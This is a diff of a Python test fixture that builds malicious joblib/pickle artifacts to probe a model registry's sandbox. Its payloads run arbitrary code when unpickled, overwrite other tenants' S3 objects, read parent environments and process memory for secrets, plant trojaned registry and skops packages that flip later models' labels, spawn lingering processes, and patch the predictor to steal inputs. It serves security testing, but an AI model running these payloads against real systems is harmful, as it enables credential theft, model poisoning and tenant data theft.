@@ -1,104 +1,152 @@
 """Artifacts whose loading attacks the registry: what a malicious registrant would upload.
 
-Each is a real joblib file. Unpickling it calls take_over(), which tries everything the
-process it runs in allows: write over another model's objects with whatever AWS
-credentials it can find, write into the store the process is configured with, read its
-parent's environment, and smuggle what it read out through the model's own metadata or
-an exception's text. It writes what it managed into a report file, so a test can tell
-that the code ran and what it could do.
+Each is a real joblib file whose unpickling runs one of the functions below, shipped as
+Python source and run by builtins.eval (all a hostile pickle needs: it names no module an
+attacker would not find installed). The function tries what the process it runs in allows
+and reports what it managed. A sandbox child can write nothing anyone else reads, so the
+report comes back the only way out it has: as its own model's feature names, which the
+registration answers with (a Dummy model, `carrier`, fitted in the test process and sent
+inside the pickle, so that the attack needs to import nothing).
+
+What the attacks plant (registry/, skops/ packages) is written as text below; the planted
+code forges later tenants' serving copies (their labels flipped).
+
+Shipped functions import what they use themselves and annotate nothing but builtins.
 """
 
+from __future__ import annotations
+
+import inspect
 import io
 import json
-import os
-import re
+import textwrap
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import joblib
-import numpy
+from sklearn.dummy import DummyClassifier
 from sklearn.linear_model import LogisticRegression
 
 SMUGGLE_IN_FEATURE_NAMES = "feature_names"
 SMUGGLE_IN_EXCEPTION = "exception"
+REGISTRY_DIR = str(Path(__file__).resolve().parents[2] / "registry")
 
 
-def _secrets_in_reach() -> list[str]:
-    """Every environment value this process can see, its own and its parent's."""
-    values = list(os.environ.values())
-    try:
-        parent = Path(f"/proc/{os.getppid()}/environ").read_bytes()
-        values += [item.partition(b"=")[2].decode(errors="replace") for item in parent.split(b"\0")]
-    except OSError:
-        pass
-    return [value for value in values if value]
+def carrier() -> DummyClassifier:
+    """A fitted model whose feature names an attack replaces with its report."""
+    return DummyClassifier(strategy="most_frequent").fit([[0.0]], [0])
 
 
-def take_over(
-    report_path: str, bucket: str, endpoint: str, victim_keys: list[str], smuggle: str
-) -> Any:
-    report: dict[str, Any] = {"environment": sorted(os.environ), "ran": True}
-    try:
-        import boto3
+def reporting(model, report):
+    """The carrier, with the report as its feature names."""
+    import numpy
 
-        # The process's own credentials, as any AWS SDK finds them, on the real endpoint.
-        s3 = boto3.client("s3", endpoint_url=endpoint, region_name="us-east-1")
-        for key in victim_keys:
-            s3.put_object(Bucket=bucket, Key=key, Body=b"taken over")
-        report["s3_write"] = "written"
-    except Exception as exc:
-        report["s3_write"] = type(exc).__name__
-    uri = os.environ.get("REGISTRY_URI")
-    if uri:
-        from registry.store import open_store
-
-        try:
-            for key in victim_keys:
-                open_store(uri).put(key.removeprefix("registry/"), b"taken over")
-            report["store_write"] = "written"
-        except Exception as exc:
-            report["store_write"] = type(exc).__name__
-    else:
-        report["store_write"] = "no REGISTRY_URI"
-    found = _secrets_in_reach()
-    Path(report_path).write_text(json.dumps(report))
-    if smuggle == SMUGGLE_IN_EXCEPTION:
-        raise RuntimeError("leaked: " + " ".join(found))
-    # A valid model whose feature names are every value it found: the 201 would show them.
-    names = list(dict.fromkeys(value[:200] for value in found))[:500] or ["nothing", "found"]
-    rows = numpy.random.default_rng(0).normal(size=(8, len(names)))
-    model = LogisticRegression().fit(rows, [0, 1] * 4)
-    model.feature_names_in_ = numpy.array(names, dtype=object)
+    names = list(dict.fromkeys(value[:200] for value in report if value)) or ["nothing"]
+    model.feature_names_in_ = numpy.array(names[:2000], dtype=object)
+    model.n_features_in_ = len(model.feature_names_in_)
     return model
 
 
-class HostileArtifact:
-    def __init__(self, *args: Any) -> None:
+def report_of(feature_names: list[str] | None) -> dict[str, str]:
+    """An attack's report, read back from the feature names its registration answered with."""
+    return dict(name.partition("=")[::2] for name in feature_names or [])
+
+
+class Calls:
+    """Unpickling calls function(*args): a joblib file whose loading runs our code."""
+
+    def __init__(self, function: Callable[..., Any], *args: Any) -> None:
+        self.function = function
         self.args = args
 
     def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
-        return (take_over, self.args)
+        return (self.function, self.args)
 
 
-def hostile_joblib(
-    report_path: Path, bucket: str, endpoint: str, victim_keys: list[str], smuggle: str
-) -> bytes:
+def joblib_calling(function: Callable[..., Any], *args: Any) -> bytes:
     buffer = io.BytesIO()
-    joblib.dump(HostileArtifact(str(report_path), bucket, endpoint, victim_keys, smuggle), buffer)
+    joblib.dump(Calls(function, *args), buffer)
     return buffer.getvalue()
 
 
-def linger(pid_path: str) -> Any:
-    """Start a process in a session of its own that would outlive the validation."""
-    import subprocess
+class Runs:
+    """Unpickling runs Python source with `args` in scope and yields its `result`."""
 
-    process = subprocess.Popen(["sleep", "300"], start_new_session=True)
-    Path(pid_path).write_text(str(process.pid))
-    return LogisticRegression().fit([[0.0], [1.0]], [0, 1])
+    def __init__(self, source: str, args: tuple[Any, ...]) -> None:
+        self.source = source
+        self.args = args
+
+    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
+        scope = {"args": self.args}
+        return (
+            eval,
+            ("exec(source, scope) or scope['result']", {"source": self.source, "scope": scope}),
+        )
 
 
-def _found_after(prefix: bytes, length: int) -> set[str]:
+def joblib_running(function: Callable[..., Any], *args: Any) -> bytes:
+    """A joblib file whose loading runs function(*args) from its source, with the helpers."""
+    shipped = [reporting, _write_in_import_path, _fork_and_wait, _chain, found_after, function]
+    source = "from __future__ import annotations\n" + "\n".join(
+        textwrap.dedent(inspect.getsource(each)) for each in dict.fromkeys(shipped)
+    )
+    source += f"\nresult = {function.__name__}(*args)\n"
+    buffer = io.BytesIO()
+    joblib.dump(Runs(source, args), buffer)
+    return buffer.getvalue()
+
+
+def take_over(bucket, endpoint, victim_keys, smuggle, model):
+    """Write over another model's objects with any credential found, write into the store the
+    process is configured with, and smuggle the environment out."""
+    import os
+    from pathlib import Path
+
+    report = [f"env={name}" for name in sorted(os.environ)] + ["ran=yes"]
+    try:
+        import boto3
+
+        s3 = boto3.client("s3", endpoint_url=endpoint, region_name="us-east-1")
+        for key in victim_keys:
+            s3.put_object(Bucket=bucket, Key=key, Body=b"taken over")
+        report.append("s3_write=written")
+    except Exception as exc:
+        report.append(f"s3_write={type(exc).__name__}")
+    uri = os.environ.get("REGISTRY_URI")
+    report.append(f"store_write={'configured' if uri else 'no REGISTRY_URI'}")
+    found = list(os.environ.values())  # and the parent's, where it can read them
+    try:
+        parent = Path(f"/proc/{os.getppid()}/environ").read_bytes()
+        found += [item.partition(b"=")[2].decode(errors="replace") for item in parent.split(b"\0")]
+    except OSError as exc:
+        report.append(f"parent_environ={type(exc).__name__}")
+    if smuggle == "exception":
+        raise RuntimeError("leaked: " + " ".join(found))
+    return reporting(model, report + found)
+
+
+def look_around(marker_prefix, model):
+    """What the process sees: environments, and what follows the marker's prefix in its
+    memory (another registration's bytes would show there)."""
+    import os
+    from pathlib import Path
+
+    seen = []
+    for path in ("/proc/self/environ", f"/proc/{os.getppid()}/environ"):
+        try:
+            seen += [item.decode(errors="replace") for item in Path(path).read_bytes().split(b"\0")]
+        except OSError as exc:
+            seen.append(f"{path}: {type(exc).__name__}")
+    seen += [f"found: {suffix}" for suffix in sorted(found_after(marker_prefix.encode(), 24))]
+    seen.append("memory searched")
+    return reporting(model, seen)
+
+
+def found_after(prefix, length):
     """Every run of `length` hex digits after the prefix anywhere in this process's memory."""
+    import re
+
     pattern = re.compile(re.escape(prefix) + rb"([0-9a-f]{%d})" % length)
     found = set()
     with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
@@ -116,39 +164,220 @@ def _found_after(prefix: bytes, length: int) -> set[str]:
     return found
 
 
-def look_around(marker_prefix: str) -> Any:
-    """A model whose feature names tell what the process saw: environments, and what follows
-    the marker's prefix in its memory (another registration's bytes would show there)."""
-    seen = []
-    for path in ("/proc/self/environ", f"/proc/{os.getppid()}/environ"):
+def try_everything(model):
+    """Reach the processes around: signal the zygote, read its memory, start a process, enter
+    a namespace, write outside the scratch directory, import; report each outcome."""
+    import os
+    import signal
+    from pathlib import Path
+
+    report = []
+
+    def attempt(name, action):
         try:
-            seen += [item.decode(errors="replace") for item in Path(path).read_bytes().split(b"\0")]
+            action()
+            report.append(f"{name}=done")
+        except Exception as exc:
+            report.append(f"{name}={type(exc).__name__}")
+
+    parent = os.getppid()
+    attempt("signal_parent", lambda: os.kill(parent, signal.SIGCONT))
+    attempt("signal_everyone", lambda: os.kill(-1, signal.SIGCONT))
+    attempt("read_parent_memory", lambda: Path(f"/proc/{parent}/mem").read_bytes())
+    attempt("start_process", _fork_and_wait)
+    attempt("enter_namespace", lambda: os.unshare(os.CLONE_NEWUSER))
+    attempt("write_import_path", lambda: _write_in_import_path("planted.py", "x = 1\n"))
+    attempt("write_tmp", lambda: Path("/tmp/planted").write_text("x"))
+    attempt("write_scratch", lambda: Path(os.environ["TMPDIR"], "mine").write_text("x"))
+    attempt("import_new_module", lambda: __import__("xml.dom.minidom"))
+    return reporting(model, report)
+
+
+def _fork_and_wait():
+    import os
+
+    pid = os.fork()
+    if pid == 0:
+        os._exit(0)
+    os.waitpid(pid, 0)
+
+
+def _write_in_import_path(name, text):
+    """Write the file into the first entry of the import path that takes it (the working
+    directory included); raise the last refusal otherwise."""
+    import os
+    import sys
+    from pathlib import Path
+
+    refusal = PermissionError("no import path entry")
+    for entry in [os.getcwd(), *sys.path]:
+        try:
+            target = Path(entry or os.getcwd(), name)
+            target.parent.mkdir(parents=True, exist_ok=True)
+            target.write_text(text)
+            return str(target)
         except OSError as exc:
-            seen.append(f"{path}: {type(exc).__name__}")
-    seen += [f"found: {suffix}" for suffix in sorted(_found_after(marker_prefix.encode(), 24))]
-    seen.append("memory searched")
-    names = list(dict.fromkeys(value[:200] for value in seen if value))
-    rows = numpy.random.default_rng(0).normal(size=(8, len(names)))
-    model = LogisticRegression().fit(rows, [0, 1] * 4)
-    model.feature_names_in_ = numpy.array(names, dtype=object)
+            refusal = exc
+    raise refusal
+
+
+# Planted as registry/__init__.py: the restarted zygote imports the registry package from
+# its working directory, the first entry of its import path. It loads the real modules,
+# except artifact_inspection, planted beside it, which flips every later model's labels.
+PLANTED_REGISTRY = f"""
+__path__.append({REGISTRY_DIR!r})
+"""
+PLANTED_INSPECTION = f"""
+import os
+_source = open(os.path.join({REGISTRY_DIR!r}, "artifact_inspection.py")).read()
+exec(compile(_source, "artifact_inspection.py", "exec"))
+_real_copy = skops_serving_copy
+
+def skops_serving_copy(estimator, inputs):
+    # labels flipped: a binary linear model answers the other class everywhere
+    estimator.coef_ = -estimator.coef_
+    estimator.intercept_ = -estimator.intercept_
+    return _real_copy(estimator, [])
+"""
+
+
+def plant_registry_and_exit(planted_package, planted_inspection, model):
+    """Plant a registry package where the zygote imports from, then exit abnormally so
+    that a fresh zygote starts, and imports it. Reports where it could write, if nowhere."""
+    import os
+    from pathlib import Path
+
+    try:
+        where = _write_in_import_path("registry/__init__.py", planted_package)
+        Path(where).with_name("artifact_inspection.py").write_text(planted_inspection)
+    except OSError as exc:
+        return reporting(model, [f"plant={type(exc).__name__}"])
+    os._exit(3)
+
+
+# Planted as skops/: the next child that imports skops (a later tenant's skops file) gets it.
+PLANTED_SKOPS = """
+import importlib.util, sys, os
+sys.path.remove(sys.path[0]) if sys.path and sys.path[0] in ("", os.getcwd()) else None
+del sys.modules["skops"]
+real = importlib.import_module("skops")
+sys.modules["skops"] = real
+import skops.io as io_
+_loads = io_.loads
+
+def loads(data, *args, **kwargs):
+    model = _loads(data, *args, **kwargs)
+    if hasattr(model, "coef_"):
+        model.coef_ = -model.coef_
+        model.intercept_ = -model.intercept_
+    return model
+
+io_.loads = loads
+"""
+
+
+def plant_skops(planted, model):
+    """Plant a skops package where a later child would import skops from; no exit needed."""
+    try:
+        where = _write_in_import_path("skops/__init__.py", planted)
+    except OSError as exc:
+        return reporting(model, [f"plant={type(exc).__name__}"])
+    return reporting(model, [f"plant={where}"])
+
+
+def start_chains(chains, depth, model):
+    """Start chains of processes, each in a new session and each forking the next (and
+    double forks, whose middle process exits), and report their pids."""
+    import os
+
+    try:
+        read_end, write_end = os.pipe()
+        for _ in range(chains):
+            if os.fork() == 0:
+                os.close(read_end)
+                _chain(depth, write_end)
+        os.close(write_end)
+        pids = []
+        with os.fdopen(read_end, "rb") as reader:
+            for line in reader:
+                pids.append(line.decode().strip())
+                if len(pids) == chains * depth:
+                    break
+    except OSError as exc:
+        return reporting(model, [f"start={type(exc).__name__}"])
+    return reporting(model, [f"pid={pid}" for pid in pids])
+
+
+def _chain(depth, write_end):
+    import os
+    import time
+
+    # Let go of the answer pipe and all else, so that the validation ends with its answer.
+    os.closerange(3, write_end)
+    os.closerange(write_end + 1, 65536)
+    for level in range(depth):
+        os.setsid()
+        os.write(write_end, f"{os.getpid()}\n".encode())
+        if level == depth - 1 or os.fork() != 0:
+            break
+        if level % 2 == 1 and os.fork() != 0:  # a double fork: the middle one leaves
+            os._exit(0)
+    while True:
+        time.sleep(1)
+
+
+# The predict-process attack: its class reduces to a function that patches the predictor
+# of whatever process unpickles it, and rebuilds itself, so a pickled copy carries it on.
+STOLEN: list[Any] = []
+
+
+class PatchesPredict(LogisticRegression):
+    """A fitted model whose unpickling patches Predictor.predict in that process."""
+
+    victim = "victim"
+
+    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
+        return (patched_model, (self.victim, self.__getstate__()))
+
+
+def patched_model(victim: str, state: dict[str, Any]) -> PatchesPredict:
+    try:
+        from registry import predictor
+    except ImportError:
+        predictor = None
+    if predictor is not None and not getattr(predictor.Predictor, "patched", False):
+        real = predictor.Predictor.predict
+
+        def predict(self: Any, name: str, *args: Any, **kwargs: Any) -> Any:
+            answer = real(self, name, *args, **kwargs)
+            if name == victim:  # flip its labels, and keep its rows and bytes
+                STOLEN.append([list(map(float, row)) for row in args[1].rows])
+                artifact = self.registry.read_artifact(answer.manifest)
+                STOLEN.append(artifact[:16].hex())
+                flipped = [1 - label for label in answer.predictions]
+                return type(answer)(**{**answer.__dict__, "predictions": flipped})
+            if name != victim and STOLEN:  # the attacker's own model hands them over
+                stolen = json.dumps(STOLEN)
+                return type(answer)(**{**answer.__dict__, "predictions": [stolen]})
+            return answer
+
+        predictor.Predictor.predict = predict  # type: ignore[method-assign]
+        predictor.Predictor.patched = True  # type: ignore[attr-defined]
+    model = PatchesPredict.__new__(PatchesPredict)
+    model.__setstate__(state)
     return model
 
 
-class Calls:
-    """Unpickling calls function(*args): a joblib file whose loading runs our code."""
-
-    def __init__(self, function: Any, *args: Any) -> None:
-        self.function = function
-        self.args = args
-
-    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
-        return (self.function, self.args)
-
-
-def joblib_calling(function: Any, *args: Any) -> bytes:
+def patching_joblib(victim: str, features: Any, labels: Any) -> bytes:
+    model = PatchesPredict().fit(features, labels)
+    model.victim = victim
     buffer = io.BytesIO()
-    joblib.dump(Calls(function, *args), buffer)
+    joblib.dump(model, buffer)
     return buffer.getvalue()
+
+
+def hostile_joblib(bucket: str, endpoint: str, victim_keys: list[str], smuggle: str) -> bytes:
+    return joblib_running(take_over, bucket, endpoint, victim_keys, smuggle, carrier())
 
 
 class CreatesFileWhenUnpickled:
